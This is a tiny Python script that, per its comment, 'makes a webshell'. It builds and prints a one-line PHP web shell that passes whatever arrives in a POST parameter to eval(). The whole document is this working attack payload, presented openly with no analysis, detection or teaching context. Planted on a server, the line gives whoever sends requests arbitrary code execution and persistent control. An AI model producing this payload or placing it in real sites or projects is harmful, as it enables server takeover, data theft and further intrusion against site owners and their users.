# makes a webshell
shell = "<?php eval($_POST[1]);"
print(shell)
